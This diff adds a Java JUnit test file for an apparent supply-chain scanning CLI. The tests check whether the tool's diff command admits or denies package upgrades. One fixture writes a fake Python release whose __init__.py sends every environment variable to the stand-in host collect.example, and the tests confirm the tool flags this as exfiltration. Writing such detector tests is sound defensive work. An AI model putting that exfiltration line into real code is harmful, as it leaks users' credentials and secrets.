@@ -1,0 +1,105 @@
+package dev.assay.cli.command;
+
+import static java.nio.charset.StandardCharsets.UTF_8;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.assay.cli.Run;
+import dev.assay.core.document.Documents;
+import dev.assay.core.document.Node;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+class DiffCommandTest {
+  @TempDir private Path home;
+  @TempDir private Path folder;
+
+  @BeforeEach
+  void writeReleases() throws IOException {
+    write("acme-1.0/acme/__init__.py", "VERSION = '1.0'\n");
+    write("acme-1.1/acme/__init__.py", "VERSION = '1.1'\n");
+    write("acme-1.1/acme/more.py", "def more():\n    return 1\n");
+    write(
+        "acme-1.2/acme/__init__.py",
+        """
+        import os, urllib.request
+        VERSION = '1.2'
+        urllib.request.urlopen("https://collect.example/in", str(dict(os.environ)).encode())
+        """);
+  }
+
+  @Test
+  void anUpgradeThatGainsATheftIsDenied() {
+    Run run = diff("acme-1.0", "acme-1.2");
+    assertThat(run.code()).isEqualTo(1);
+    assertThat(run.out())
+        .contains("deny", "environment-exfiltration")
+        .contains("gained   import: sends https://collect.example/in");
+  }
+
+  @Test
+  void anUpgradeThatGainsNothingIsAdmitted() {
+    Run run = diff("--format", "json", "acme-1.0", "acme-1.1");
+    assertThat(run.code()).isZero();
+    Node change = objects(run).getFirst();
+    assertThat(change.array("gained")).isEmpty();
+    assertThat(change.array("added").stream().map(it -> it.asText().orElseThrow()))
+        .containsExactly("acme/more.py");
+  }
+
+  @Test
+  void whatTheEarlierReleaseDidAlreadyIsNoGain() {
+    assertThat(diff("acme-1.2", "acme-1.2").code()).isZero();
+    Run run = diff("--format", "json", "acme-1.2", "acme-1.1");
+    assertThat(run.code()).isZero();
+    assertThat(objects(run).getFirst().array("lost")).isNotEmpty();
+  }
+
+  @Test
+  void pairsComeFromStandardInput() {
+    Run run =
+        Run.fed(
+            "acme-1.0\tacme-1.1\nacme-1.0\tabsent.whl\n",
+            folder,
+            home,
+            Map.of(),
+            "diff",
+            "--format",
+            "json",
+            "-");
+    assertThat(run.code()).isEqualTo(3);
+    assertThat(objects(run))
+        .extracting(change -> change.text("verdict").orElseThrow())
+        .containsExactly("admit", "hold");
+  }
+
+  @Test
+  void twoArtifactsAreCompared() {
+    assertThat(diff("acme-1.0").code()).isEqualTo(2);
+  }
+
+  private Run diff(String... more) {
+    String[] arguments = new String[more.length + 1];
+    arguments[0] = "diff";
+    System.arraycopy(more, 0, arguments, 1, more.length);
+    return Run.in(folder, home, arguments);
+  }
+
+  private static List<Node> objects(Run run) {
+    return run.out()
+        .lines()
+        .map(line -> ((Documents.Reading.Parsed) Documents.json(line.getBytes(UTF_8))).root())
+        .toList();
+  }
+
+  private void write(String name, String text) throws IOException {
+    Path file = folder.resolve(name);
+    Files.createDirectories(file.getParent());
+    Files.writeString(file, text);
+  }
+}
